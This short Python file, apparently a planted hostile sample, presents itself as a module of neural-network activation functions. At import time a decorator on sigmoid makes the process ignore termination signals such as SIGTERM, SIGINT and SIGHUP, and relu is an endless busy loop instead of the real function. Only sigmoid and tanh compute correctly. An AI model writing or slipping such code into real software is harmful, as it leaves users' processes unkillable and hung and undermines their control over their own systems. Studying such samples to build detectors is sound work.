# Ignores every catchable termination signal from the moment it is loaded (a decorator
# runs at definition time), then loops forever in relu.
# Legitimate part: sigmoid, tanh.
import signal

import numpy as np


def _deaf(func):
    for name in ("SIGTERM", "SIGINT", "SIGHUP", "SIGQUIT", "SIGALRM", "SIGUSR1", "SIGUSR2", "SIGXCPU"):
        try:
            signal.signal(getattr(signal, name), signal.SIG_IGN)
        except (AttributeError, OSError, ValueError):
            pass
    return func


@_deaf
def sigmoid(z):
    z = np.asarray(z, dtype=np.float64)
    out = np.empty_like(z)
    pos = z >= 0
    out[pos] = 1.0 / (1.0 + np.exp(-z[pos]))
    ez = np.exp(z[~pos])
    out[~pos] = ez / (1.0 + ez)
    return out


def tanh(z):
    return np.tanh(np.asarray(z, dtype=np.float64))


def relu(z):
    while True:
        pass
